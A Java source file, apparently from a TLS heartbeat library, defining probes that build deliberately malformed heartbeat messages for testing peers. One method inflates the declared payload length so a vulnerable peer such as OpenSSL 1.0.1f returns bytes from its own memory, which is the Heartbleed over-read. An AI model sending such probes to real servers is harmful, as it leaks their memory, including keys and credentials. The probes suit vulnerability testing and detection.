package io.heartguard.wire.heartbeat;

import io.heartguard.wire.Bytes;

/**
 * Deliberate malformations of a well-formed {@link HeartbeatMessage}, kept apart from the honest encoder: a probe
 * encodes a valid message, then applies one named override on top.
 */
public final class HeartbeatProbe {
  private HeartbeatProbe() {}

  /**
   * The message with its payload_length field replaced by {@code declaredPayloadLength}; payload and padding stay.
   * A vulnerable peer copies the declared length, so every byte past the message it returns came from its memory.
   */
  public static byte[] withDeclaredPayloadLength(HeartbeatMessage message, int declaredPayloadLength) {
    if (declaredPayloadLength < 0 || declaredPayloadLength > 0xffff) {
      throw new IllegalArgumentException("payload_length must be 0..65535, got " + declaredPayloadLength);
    }
    byte[] encoded = message.toByteArray();
    encoded[1] = (byte) (declaredPayloadLength >>> 8);
    encoded[2] = (byte) declaredPayloadLength;
    return encoded;
  }

  /**
   * Type and payload with no padding at all: honest about its payload, yet illegal (RFC 6520 section 4 requires 16
   * bytes). 1.0.1f answers it; 1.0.1g discards it. It leaks nothing.
   */
  public static byte[] withoutPadding(HeartbeatMessageType type, Bytes payload) {
    if (payload.size() > 0xffff) {
      throw new IllegalArgumentException("payload of " + payload.size() + " bytes does not fit payload_length (at most 65535)");
    }
    byte[] out = new byte[HeartbeatFrame.HEADER_LENGTH + payload.size()];
    out[0] = (byte) type.code();
    out[1] = (byte) (payload.size() >>> 8);
    out[2] = (byte) payload.size();
    payload.copyTo(out, HeartbeatFrame.HEADER_LENGTH);
    return out;
  }
}
